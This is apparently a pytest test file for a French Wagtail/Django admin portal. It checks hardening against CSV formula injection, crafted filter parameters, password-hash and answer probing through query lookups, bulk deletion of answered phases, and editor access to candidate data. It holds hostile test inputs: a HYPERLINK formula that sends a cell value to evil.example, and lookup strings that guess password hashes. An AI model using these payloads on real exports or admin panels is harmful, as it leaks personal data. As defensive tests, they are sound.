"""The Wagtail admin, closed where probing found it open: leftover English groups and workflow, formula
injection in the CSV exports, crafted filter parameters, bulk deletion of answered phases, and what an
Éditeur finds of the candidates' data (#15)."""

import csv
import importlib
import io

import pytest
from django.apps import apps
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone
from wagtail.models import GroupApprovalTask, Page, Task, Workflow, WorkflowPage

from candidates.dossiers import services as dossier_services
from candidates.journal import services as journal
from candidates.models import PhaseResponse
from phases.models import PhasePage

from .factories import CandidateFactory, CounsellorFactory
from .test_admin_academie import ATTESTATIONS, CANDIDATES, attest

pytestmark = pytest.mark.django_db

LEFTOVERS = importlib.import_module("candidates.migrations.0017_remove_wagtail_default_groups_and_workflow")


# Wagtail's default groups and workflow ------------------------------------------------------------------


def assert_no_leftovers():
    assert not Group.objects.filter(name__in=["Editors", "Moderators"]).exists()
    assert not Workflow.objects.filter(name="Moderators approval").exists()
    assert not Task.objects.filter(name="Moderators approval").exists()
    # The only workflow left is the portal's own « Relecture » (home/0006), on the site's home page.
    assert set(WorkflowPage.objects.values_list("workflow__name", flat=True)) <= {"Relecture"}
    assert not WorkflowPage.objects.filter(page__depth=1).exists()


def test_a_migrated_database_has_neither_the_english_groups_nor_the_default_workflow():
    assert_no_leftovers()
    assert {"Administrateur", "Éditeur", "Candidat", "Conseiller"} <= set(Group.objects.values_list("name", flat=True))


def test_the_migration_removes_them_where_wagtail_created_them_and_is_safe_where_they_are_absent():
    moderators = Group.objects.create(name="Moderators")
    Group.objects.create(name="Editors")
    task = GroupApprovalTask.objects.create(name="Moderators approval")
    task.groups.set([moderators])
    workflow = Workflow.objects.create(name="Moderators approval")
    workflow.workflow_tasks.create(task=task, sort_order=0)
    WorkflowPage.objects.create(workflow=workflow, page=Page.objects.get(depth=1))

    LEFTOVERS.remove_leftovers(apps, None)
    assert_no_leftovers()
    LEFTOVERS.remove_leftovers(apps, None)  # already absent: nothing to do, no error
    assert_no_leftovers()
    assert Page.objects.filter(depth=1).exists()


# Formula injection in the CSV exports ------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Voir")', "+SUM(1,1)", "-2+3", "@SUM(1,1)"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_candidates(counsellor):
    """Four candidates whose name (and username) is a spreadsheet formula, each with an attestation
    and an entry of their own in the access journal."""
    people = []
    for number, formula in enumerate(FORMULAS, start=1):
        person = CandidateFactory(first_name=formula, last_name="", username=formula, dossier__counsellor=counsellor)
        attest(person.dossier, timezone.localdate(), 2, f"ATT-F{number}")
        journal.record(person, journal.Action.ANSWERS_SAVED, candidate=person)
        people.append(person)
    return people


def csv_cells(client, url) -> list[list[str]]:
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


@pytest.mark.parametrize(
    "url, column",
    [(CANDIDATES, "Candidat"), (ATTESTATIONS, "Candidat"), ("/admin/journal/", "Auteur (identifiant)")],
)
def test_no_cell_of_an_admin_export_is_read_as_a_formula(client, administrator, formula_candidates, url, column):
    client.force_login(administrator)
    heading, *rows = csv_cells(client, url)
    assert rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (url, cell)
    shown = {dict(zip(heading, row, strict=True))[column] for row in rows}
    assert {f"'{formula}" for formula in FORMULAS} <= shown


@pytest.mark.parametrize("report", ["/admin/reports/site-history/", "/admin/reports/aging-pages/"])
def test_no_cell_of_a_wagtail_report_export_is_read_as_a_formula(client, administrator, editor, bilan, report):
    """Wagtail's own reports share its CSV writer: a page title an editor typed as a formula is text."""
    page = bilan.get_children().first().specific
    for formula in FORMULAS:
        page.title = formula
        page.save_revision(user=editor).publish(user=administrator)  # editors submit, administrators publish
    client.force_login(administrator)
    heading, *rows = csv_cells(client, report)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert f"'{FORMULAS[-1]}" in cells


# Crafted filter parameters ---------------------------------------------------------------------------

COMMON = [{"conseiller": "abc"}, {"conseiller": "99999999999999999999999"}, {"dabm": "abc"}, {"dabm": "-1"}]
YEARS = [{"annee": year} for year in ("0", "99999", "²", "٢٠٢٦", "abc")]  # ², ٢٠٢٦: digits to str.isdigit()
MONTHS = [{"mois": month} for month in ("0000-01", "2026-²", "2026-13", "2026-00", "99999-01", "abc", "2026-")]
LOOKUPS = [{"inconnu": "1"}, {"dabm__name__regex": "("}, {"p": "abc"}, {"o": "abc"}]  # not a filter of the listing
COUNSELLORS = "/admin/candidates/counsellor/"
CRAFTED = (
    [(CANDIDATES, params, "BERNARD") for params in COMMON + YEARS + LOOKUPS]
    + [(ATTESTATIONS, params, "BERNARD") for params in COMMON + MONTHS + LOOKUPS]
    + [(COUNSELLORS, params, "BOAD") for params in [{"dabm": "abc"}, {"is_active__exact": "abc"}, *LOOKUPS]]
    + [("/admin/candidates/dabm/", params, "DABM") for params in LOOKUPS]
)


def crafted_id(value):
    if isinstance(value, dict):
        return "&".join(f"{key}={item}" for key, item in value.items())
    return value.split("/")[-2] if "/" in value else ""


@pytest.mark.parametrize("url, params, shown", CRAFTED, ids=crafted_id)
def test_a_crafted_filter_gives_a_clean_listing(client, administrator, candidate, url, params, shown):
    attest(candidate.dossier, timezone.localdate(), 2, "ATT-1")
    client.force_login(administrator)
    response = client.get(url, params, follow=True)
    assert response.status_code == 200
    assert response.redirect_chain in ([], [(url, 302)])
    assert shown in response.content.decode()  # an unusable filter filters nothing
    assert client.get(url, {**params, "export": "csv"}, follow=True).status_code == 200


def test_the_listings_own_filters_still_apply(client, administrator, counsellor):
    retired = CounsellorFactory(last_name="RETRAITE", is_active=False)
    client.force_login(administrator)
    inactive = client.get(COUNSELLORS, {"is_active__exact": "0", "q": "e", "o": "0"}).content.decode()
    assert retired.last_name in inactive and counsellor.last_name not in inactive


@pytest.mark.parametrize(
    "url, lookup",
    [
        (CANDIDATES, "candidate__phase_responses__answers__icontains"),
        (ATTESTATIONS, "dossier__candidate__phase_responses__answers__icontains"),
        (CANDIDATES, "candidate__password__startswith"),
        (COUNSELLORS, "password__startswith"),
    ],
)
def test_the_query_string_is_no_search_in_what_the_listing_does_not_show(
    client, administrator, candidate, phases, url, lookup
):
    """Wagtail's ModelAdmin applies any other parameter as a database lookup: it would tell, one guess at a
    time, what a candidate answered or how their password hash begins."""
    dossier_services.response_save(candidate=candidate, phase=phases[0], answers={"x": "divorce difficile"}, version=0)
    attest(candidate.dossier, timezone.localdate(), 2, "ATT-1")
    client.force_login(administrator)
    for guess in ("divorce", "md5$", "zzz"):
        response = client.get(url, {lookup: guess})
        assert response.status_code == 302 and response.url == url


# Bulk deletion of phases -------------------------------------------------------------------------------


def bulk_delete_pages(client, pages, parent):
    url = reverse("wagtail_bulk_action", args=["wagtailcore", "page", "delete"])
    query = "&".join(f"id={page.pk}" for page in pages)
    explorer = reverse("wagtailadmin_explore", args=[parent.pk])
    return client.post(f"{url}?{query}&childOf={parent.pk}&next={explorer}", follow=True)


def test_bulk_deleting_a_phase_with_answers_is_refused_with_the_single_delete_message(
    client, administrator, candidate, phases
):
    dossier_services.response_save(candidate=candidate, phase=phases[0], answers={"x": "y"}, version=0)
    client.force_login(administrator)
    response = bulk_delete_pages(client, [phases[0], phases[-1]], phases[0].get_parent())
    assert response.status_code == 200
    assert response.redirect_chain[-1][0] == reverse("wagtailadmin_explore", args=[phases[0].get_parent().pk])
    content = response.content.decode()
    assert "Impossible de supprimer « Contexte de la demande » : 1 candidat y a déjà répondu." in content
    assert PhaseResponse.objects.filter(phase=phases[0]).exists()
    assert PhasePage.objects.filter(pk__in=[phases[0].pk, phases[-1].pk]).count() == 2  # nothing deleted


def test_bulk_deleting_phases_nobody_answered_still_works(client, administrator, phases):
    client.force_login(administrator)
    bulk_delete_pages(client, phases[-2:], phases[0].get_parent())
    assert not PhasePage.objects.filter(pk__in=[page.pk for page in phases[-2:]]).exists()


# What an Éditeur finds of the candidates' data ------------------------------------------------------------


@pytest.fixture
def candidate_data_urls(candidate, counsellor):
    attestation = attest(candidate.dossier, timezone.localdate(), 2, "ATT-1")
    event = journal.record(counsellor, journal.Action.ACCOUNT_VIEWED, candidate=candidate)
    dossier = candidate.dossier
    return {
        CANDIDATES: 200,
        f"{CANDIDATES}inspect/{dossier.pk}/": 200,
        f"{CANDIDATES}edit/{dossier.pk}/": 200,
        ATTESTATIONS: 200,
        f"{ATTESTATIONS}inspect/{attestation.pk}/": 200,
        COUNSELLORS: 200,
        f"{COUNSELLORS}edit/{counsellor.pk}/": 200,
        reverse("journal:index"): 200,
        reverse("journal:inspect", args=[event.pk]): 200,
        reverse("journal:edit", args=[event.pk]): 302,  # nobody edits the journal (« pas la permission »)
    }


def test_an_editor_finds_none_of_the_candidates_data_in_the_admin(client, editor, candidate_data_urls):
    client.force_login(editor)
    for url in candidate_data_urls:
        response = client.get(url)
        assert response.status_code == 404, url
        assert "BERNARD" not in response.content.decode()
    unknown = [f"{CANDIDATES}inspect/999999/", f"{COUNSELLORS}edit/999999/", reverse("journal:inspect", args=[999999])]
    for url in unknown:
        assert client.get(url).status_code == 404, url  # the same answer: nothing tells which ids exist


def test_administrators_keep_their_access(client, administrator, candidate_data_urls):
    client.force_login(administrator)
    for url, status in candidate_data_urls.items():
        assert client.get(url).status_code == status, url
